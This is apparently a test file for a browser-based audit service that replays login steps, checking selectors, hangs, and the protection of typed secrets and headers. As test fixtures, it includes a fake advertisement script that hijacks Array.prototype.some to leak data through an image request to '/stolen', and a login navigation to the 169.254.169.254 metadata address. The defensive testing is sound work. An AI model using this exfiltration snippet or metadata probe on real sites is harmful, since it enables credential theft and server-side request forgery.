/** Logins that stand in the way of a replay, and selectors of each kind: audited with the real browser. */
import assert from 'node:assert/strict';
import { after, suite, test } from 'node:test';
import { decode } from 'jpeg-js';
import type { Access } from '../../src/contract/access/access.ts';
import { AnalysisError } from '../../src/contract/errors.ts';
import { createOwnPool, readOwnPage } from '../support/audits/create-own-pool.ts';
import { startLocalServer } from '../support/sites/local-server.ts';

const page = (body: string) => `<!doctype html><html lang="en"><head><meta name="viewport" content="width=device-width">
<title>Shop</title></head><body>${body}</body></html>`;

const account = '<h1 id="account">Your account</h1>';

const shadow = (html: string) =>
  `<x-part></x-part><script>document.querySelector('x-part').attachShadow({ mode: 'open' }).innerHTML = \`${html}\`;</script>`;

const headers: { path: string; host: string; staging: string | undefined }[] = [];

const pages: Record<string, string> = {
  // Each button adds a letter to the cookie.
  '/buttons': page(`<button id="css">one</button><button id="text">Second button</button>
<button aria-label="Third button">3</button><div class="xpath"><button>four</button></div>
${shadow('<button id="inner">five</button>')}<p id="all"></p><script>
addEventListener('click', event => {
  const [button] = event.composedPath();
  document.cookie = 'clicked=' + (document.cookie.split('clicked=')[1] ?? '') + (button.id || button.ariaLabel || button.textContent).slice(0, 5).replace(' ', '');
});</script>`),
  '/dialogs':
    page(`<button onclick="alert('Welcome'); document.cookie = 'in=yes-yes'; location.href = '/in'">Log in</button>
<script>addEventListener('beforeunload', event => event.preventDefault());</script>`),
  '/with-worker': page(`<button>Log in</button><script>document.querySelector('button').onclick = async () => {
  await navigator.serviceWorker.register('/worker.js');
  await navigator.serviceWorker.ready;
  localStorage.setItem('token', 'of the service worker');
  document.body.insertAdjacentHTML('beforeend', '${account}');
};</script>`),
  '/stored': page(`<main></main><script>if (localStorage.getItem('token') === 'of the service worker')
  document.querySelector('main').innerHTML = '${account}';</script>`),
  '/disabled': page('<button disabled>Log in</button>'),
  '/fields': page(`<style>input { font-size: 40px }</style><iframe src="/frame" width="300" height="100"></iframe>
${shadow('<style>input { font-size: 40px }</style><input id="shadowed">')}`),
  '/frame': page('<style>input { font-size: 40px }</style><input id="framed">'),
  '/in': page(account),
  // Is busy as soon as it is asked what it has stored.
  '/busy': page(`${account}<script>Object.defineProperty(window, 'localStorage', { get() {
  for (const end = Date.now() + 12_000; Date.now() < end; );
  return {};
} });</script>`),
  '/hang-later': page('<button onclick="setTimeout(() => { for (;;); }, 100)">Log in</button>'),
  '/hang': page('<input><script>addEventListener("keydown", () => { for (;;); });</script>'),
  // An advertisement that reads whatever a function of its document is called with.
  '/spy': page(`<p>Advertisement</p><script>
const { some } = Array.prototype;
Array.prototype.some = function (...given) { new Image().src = '/stolen?' + this; return some.apply(this, given); };
</script>`),
};

type Answer = { status: number; headers: Record<string, string>; body: string };

const serve = (path: string, cookie: string): Answer => {
  const html = (body: string): Answer => ({ status: 200, headers: { 'content-type': 'text/html' }, body });
  if (path === '/worker.js')
    return {
      ...html(`addEventListener('install', () => skipWaiting()); addEventListener('activate', event => event.waitUntil(clients.claim()));
addEventListener('fetch', event => event.respondWith(Response.error()));`),
      headers: { 'content-type': 'text/javascript' },
    };
  if (path === '/clicked')
    return html(page(cookie.includes('clicked=csstextThirdfourinner') ? account : `<p>${cookie}</p>`));
  if (path === '/leave') return { status: 302, headers: { location: `${other.url}/in` }, body: '' };
  if (path === '/with-spy') return html(page(`<input><iframe src="${other.url}/spy"></iframe>`));
  if (path === '/lookalike') return { status: 302, headers: { location: `${other.url}/frame` }, body: '' };
  const body = pages[path];
  return body === undefined ? { status: 404, headers: {}, body: '' } : html(body);
};

const listen = () =>
  startLocalServer({ after }, (request, response) => {
    const { pathname } = new URL(request.url ?? '/', 'http://site.example');
    headers.push({
      path: pathname,
      host: request.headers.host ?? '',
      staging: request.headers['x-staging'] as string | undefined,
    });
    const answer = serve(pathname, request.headers.cookie ?? '');
    response.writeHead(answer.status, answer.headers).end(answer.body);
  });
const other = await listen();
const site = await listen();

suite('a login that stands in the way of its replay', () => {
  const pool = createOwnPool();
  after(() => pool.close(0));

  const measure = async (path: string, access: Access) => {
    const url = `${site.url}${path}`;
    const asked = {
      url,
      strategy: 'mobile',
      categories: ['performance'],
      profile: 'lighthouse',
      locale: 'en-US',
    } as const;
    return (await pool.audit({ ...asked, access }, readOwnPage, AbortSignal.timeout(110_000))).value.result;
  };
  const fail = async (path: string, access: Access): Promise<AnalysisError> => {
    try {
      await measure(path, access);
    } catch (error) {
      assert.ok(error instanceof AnalysisError, String(error));
      return error;
    }
    return assert.fail('it was measured');
  };
  const at = (path: string) => ({ type: 'navigate', url: `${site.url}${path}` });
  const expect = { selector: '#account' };

  test('selectors of each kind of the Recorder', async () => {
    const click = (selector: string) => ({ type: 'click', selectors: [[selector]] });
    const steps = [
      at('/buttons'),
      ...['#css', 'text/Second button', 'aria/Third button', 'xpath///div[@class="xpath"]/button', 'pierce/#inner'].map(
        click,
      ),
    ];
    await measure('/clicked', { login: { timeout: 20_000, steps }, expect });
    const list = { type: 'click', selectors: [['x-part', '#inner']] };
    const before = ['#css', 'text/Second button', 'aria/Third button', 'xpath///*[contains(@class, "xpath")]/button'];
    await measure('/clicked', {
      login: { timeout: 20_000, steps: [at('/buttons'), ...before.map(click), list] },
      expect,
    });
  });

  test('dialogs are answered', async () => {
    const click = { type: 'click', selectors: ['button'], assertedEvents: [{ type: 'navigation' }] };
    await measure('/in', { login: { timeout: 20_000, steps: [at('/dialogs'), click] }, expect });
  });

  test('a service worker of the login answers nothing later', async () => {
    const steps = [
      at('/with-worker'),
      { type: 'click', selectors: ['button'] },
      { type: 'waitForElement', selectors: ['#account'] },
    ];
    await measure('/stored', { login: { timeout: 20_000, steps }, expect });
  });

  test('an element that is there but disabled is not called missing', async () => {
    const steps = [at('/disabled'), { type: 'click', selectors: ['button'] }];
    const { code, message } = await fail('/in', { login: { timeout: 2_000, steps } });
    assert.equal(code, 'login_failed');
    assert.match(message, /Step 2 of 2 .* not ready in time/);
  });

  test('typed values are covered in frames and in shadow roots, too', async () => {
    const see = async (typed: string) => {
      const steps = [
        at('/fields'),
        { type: 'change', selectors: ['#framed'], frame: [0], value: typed },
        { type: 'change', selectors: ['pierce/#shadowed'], value: typed },
        { type: 'waitForElement', selectors: ['#account'] },
      ];
      const { seen, message, code } = await fail('/in', { login: { timeout: 8_000, steps } });
      assert.ok(seen?.picture, `${code}: ${message}`);
      const bytes = Buffer.from(seen?.picture?.split(',')[1] ?? '', 'base64');
      return decode(bytes).data;
    };
    // The cursor of a field may blink.
    const [one, two] = [await see('AAAAAAAA'), await see('iiiiiiii')];
    const different = one.filter((value, place) => Math.abs(value - (two[place] ?? 0)) > 60).length;
    assert.ok(different < 2_000, `${different} values differ`);
  });

  test('what was typed stays secret to frames of other origins, when a failure is pictured', async () => {
    headers.length = 0;
    const steps = [
      at('/with-spy'),
      { type: 'change', selectors: ['input'], value: `\${PASSWORD}` },
      { type: 'click', selectors: ['#missing'] },
    ];
    const { seen } = await fail('/in', { login: { timeout: 2_000, steps }, secrets: { PASSWORD: 'typed-password' } });
    assert.ok(seen?.picture);
    assert.ok(headers.some(({ path }) => path === '/spy'));
    assert.ok(!headers.some(({ path }) => path === '/stolen'));
  });

  test('a secret is typed into no page of an origin that nobody named', async () => {
    const typing = { type: 'change', selectors: ['input'], value: `\${PASSWORD}` };
    const secrets = { PASSWORD: 'typed-password' };
    const { code, message } = await fail('/in', { login: { steps: [at('/lookalike'), typing] }, secrets });
    assert.equal(code, 'login_failed');
    assert.match(message, new RegExp(`would type a secret into ${other.url}, which neither`));
    const assertedEvents = [{ type: 'navigation', url: `${other.url}/frame` }];
    await measure('/in', { login: { steps: [{ ...at('/lookalike'), assertedEvents }, typing] }, secrets, expect });
  });

  test('a page that hangs in a step fails the login', async () => {
    const steps = [
      at('/hang'),
      { type: 'click', selectors: ['input'] },
      ...['a', 'b'].map(key => ({ type: 'keyDown', key })),
    ];
    const { message } = await fail('/in', { login: { timeout: 8_000, steps } });
    assert.match(message, /Step [34] of 4 .*did not answer|hung|hang/);
    const last = [at('/hang-later'), { type: 'click', selectors: ['button'] }];
    const { code } = await fail('/in', { login: { timeout: 8_000, steps: last } });
    assert.match(code, /^(login_failed|page_timeout)$/);
  });

  test('a page that is too busy to answer soon is not called a login page', async () => {
    await measure('/busy', { cookies: [{ name: 'sid', value: 'a session' }], expect });
  });

  test('a login reaches no address that a page could not reach', async () => {
    const login = { steps: [{ type: 'navigate', url: 'http://169.254.169.254/latest/meta-data/' }] };
    const { code, message } = await fail('/in', { login });
    assert.equal(code, 'login_failed', message);
  });

  test('a header does not follow a redirect to another origin', async () => {
    headers.length = 0;
    await measure('/leave', { headers: { 'X-Staging': 'secret of staging' } });
    const sent = headers.filter(({ staging }) => staging !== undefined);
    assert.ok(sent.some(({ path }) => path === '/leave'));
    assert.deepEqual(
      sent.filter(({ host }) => host === new URL(other.url).host),
      [],
    );
    assert.ok(headers.some(({ host, path }) => host === new URL(other.url).host && path === '/in'));
  });

  test('a state of 450 items, one of 180 KB, and words of the browser', async () => {
    const items = Array.from({ length: 450 }, (_, at) => ({
      name: `item ${at}`,
      value: `a stored value, number ${at}`,
    }));
    const localStorage = [
      { name: 'token', value: 'of the service worker' },
      { name: 'mode', value: 'timeline' },
      { name: 'large', value: 'large '.repeat(30_000) },
      ...items,
    ];
    await measure('/stored', {
      state: { origins: [{ origin: site.url, localStorage }] },
      cookies: [{ name: 'mode', value: 'devtools' }],
      expect,
    });
  });
});
